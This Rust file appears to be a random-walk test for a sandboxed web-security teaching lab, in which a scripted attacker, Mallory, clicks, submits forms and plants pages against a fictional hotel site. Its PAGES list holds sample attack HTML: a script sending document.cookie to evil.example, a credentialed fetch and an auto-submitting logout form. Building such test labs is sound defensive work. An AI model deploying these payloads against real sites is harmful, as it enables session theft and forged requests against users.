//! Somebody who tries everything that a lab offers, without an idea: every button, every link, every form with what
//! Mallory has of her own, known addresses, junk cookies, harmless pages, Alice's routines.

use cloakroom::{
    course::{Course, Lab, LabGoal},
    lab::{EVIL_PATH, LabWorld, SHOP_PATH},
    sandbox::{Caller, Services},
    switch::{ALL, Setting},
};
use cloakroom_engine::script::{Action, Actor, Block, Fence, Line, Place, SitePage, Step};
use time::Duration;

const PATHS: [&str; 16] = [
    "/",
    "/count",
    "/whoami",
    "/login",
    "/account",
    "/book",
    "/password",
    "/confirm",
    "/forgot",
    "/forgot/code",
    "/devices",
    "/manager",
    "/old-desk",
    "/token",
    "/login?id=AAAAAAAAAAAAAAAAAAAAAA",
    "/coats/pass",
];

const PAGES: [&str; 6] = [
    "<p><a href=\"https://hotel.grand.example/login\">To the hotel</a></p>",
    "<p><a href=\"https://hotel.grand.example/account\">To the hotel</a></p>",
    "<p><a href=\"https://hotel.grand.example/coats/pass\">Coats</a></p>",
    "<script>new Image().src = 'https://evil.example/?c=' + encodeURIComponent(document.cookie)</script>",
    "<script>fetch('https://hotel.grand.example/account', { credentials: 'include' })</script>",
    "<form method=post action=https://hotel.grand.example/logout></form><script>document.forms[0].submit()</script>",
];

/// Numbers that look random, and are the same each time (xorshift64*).
struct Dice(u64);

impl Dice {
    fn below(&mut self, most: usize) -> usize {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        usize::try_from(self.0.wrapping_mul(0x2545_F491_4F6C_DD1D) >> 33).unwrap() % most.max(1)
    }
}

/// Walks; what was done last.
pub(super) async fn walk(
    lab: &Lab,
    course: &Course,
    services: &Services,
    world: &LabWorld,
    acts: usize,
) -> Vec<String> {
    let seed = lab.slug.bytes().fold(0x9E37_79B9_7F4A_7C15_u64, |seed, byte| seed.rotate_left(7) ^ u64::from(byte));
    let (mut dice, mut done) = (Dice(seed), Vec::new());
    let mut on: Vec<Setting> = Vec::new();
    for _ in 0..acts {
        let said = match lab.goal {
            LabGoal::Defend => defends(lab, course, services, world, &mut dice, &mut on).await,
            LabGoal::Reach(_) => attacks(lab, world, &mut dice).await,
        };
        done.push(said);
        if world.state().solved.is_some() {
            break;
        }
    }
    done.split_off(done.len().saturating_sub(12))
}

async fn attacks(lab: &Lab, world: &LabWorld, dice: &mut Dice) -> String {
    let path = PATHS[dice.below(PATHS.len())];
    let deed = match dice.below(12) {
        0..3 => Action::Open(format!("https://hotel.grand.example{path}")),
        3..6 if !lab.front.alice.is_empty() => {
            let number = dice.below(lab.front.alice.len());
            world.alice(lab, &Caller::default(), number).await;
            return lab.front.alice[number].title.clone();
        }
        6 => {
            let html = PAGES[dice.below(PAGES.len())].to_owned();
            let shop = lab.front.shop && dice.below(2) == 0;
            let (at, path) = if shop { (Place::Shop, SHOP_PATH) } else { (Place::Evil, EVIL_PATH) };
            let set_cookie = (dice.below(3) == 0).then(|| "sid=AAAAAAAAAAAAAAAAAAAAAA; Path=/".to_owned());
            world.page(lab, SitePage { at, path: path.to_owned(), html: html.clone(), set_cookie }).await;
            return html;
        }
        7 => {
            let cookie = ["none=yet", "sid=AAAAAAAAAAAAAAAAAAAAAA", "sid=1", "token=a.b.c"][dice.below(4)];
            let text = format!("GET https://hotel.grand.example{path}\nCookie: {cookie}");
            let block = Block::parse(&Fence::new("http as=mallory", &text, 0).unwrap()).unwrap().unwrap();
            world.mallory(lab, &Caller::default(), &text, &block).await;
            return text;
        }
        8 => Action::Wait(Duration::seconds([1, 60, 600, 3600][dice.below(4)])),
        9 => Action::Back,
        _ => pressed(world, dice).unwrap_or_else(|| Action::Open("https://hotel.grand.example/login".to_owned())),
    };
    let said = format!("{deed:?}");
    let lines = vec![Line { line: 0, step: Step::Action(deed), then: Vec::new() }];
    let block = Block::Play { actor: Actor::Mallory, at: Actor::Mallory, lines };
    world.mallory(lab, &Caller::default(), &said, &block).await;
    said
}

/// A link or a form of the page that is open, filled in with what is Mallory's own.
fn pressed(world: &LabWorld, dice: &mut Dice) -> Option<Action> {
    let mut browser = world.sandbox().cast().browser(Actor::Mallory).cloned()?;
    let page = browser.page()?;
    if dice.below(3) == 0 && !page.links.is_empty() {
        return Some(Action::Click(page.links[dice.below(page.links.len())].text.clone()));
    }
    let form = page.forms.get(dice.below(page.forms.len()))?;
    let own = |(name, given): &(String, String)| {
        let value = match name.as_str() {
            "guest" => "mallory".to_owned(),
            "password" => "{{mallory.password}}".to_owned(),
            "text" => "A fine house".to_owned(),
            _ => given.clone(),
        };
        (name.clone(), value)
    };
    Some(Action::Submit { form: form.names.first()?.clone(), fields: form.fields.iter().map(own).collect() })
}

/// Moves a switch, takes one back, or tries what is on.
async fn defends(
    lab: &Lab,
    course: &Course,
    services: &Services,
    world: &LabWorld,
    dice: &mut Dice,
    on: &mut Vec<Setting>,
) -> String {
    match dice.below(5) {
        0 if on.len() <= lab.front.most && !on.is_empty() => {
            world.defend(lab, course, services, on).await.unwrap();
            format!("tries {}", on.iter().map(ToString::to_string).collect::<Vec<_>>().join(", "))
        }
        // As the page has it: no more than so many can be moved.
        _ if on.len() >= lab.front.most => on.remove(dice.below(on.len())).to_string(),
        1 if !on.is_empty() => on.remove(dice.below(on.len())).to_string(),
        _ => {
            let switch = ALL[dice.below(ALL.len())];
            let needs = |choice: &&cloakroom::switch::Choice| choice.needs.is_none() && switch.name != "store_trouble";
            let choices: Vec<_> = switch.choices.iter().filter(needs).collect();
            if let Some(choice) = choices.get(dice.below(choices.len())) {
                on.retain(|setting| setting.switch.name != switch.name);
                on.push(Setting::of(switch.name, choice.value).unwrap());
            }
            switch.name.to_owned()
        }
    }
}
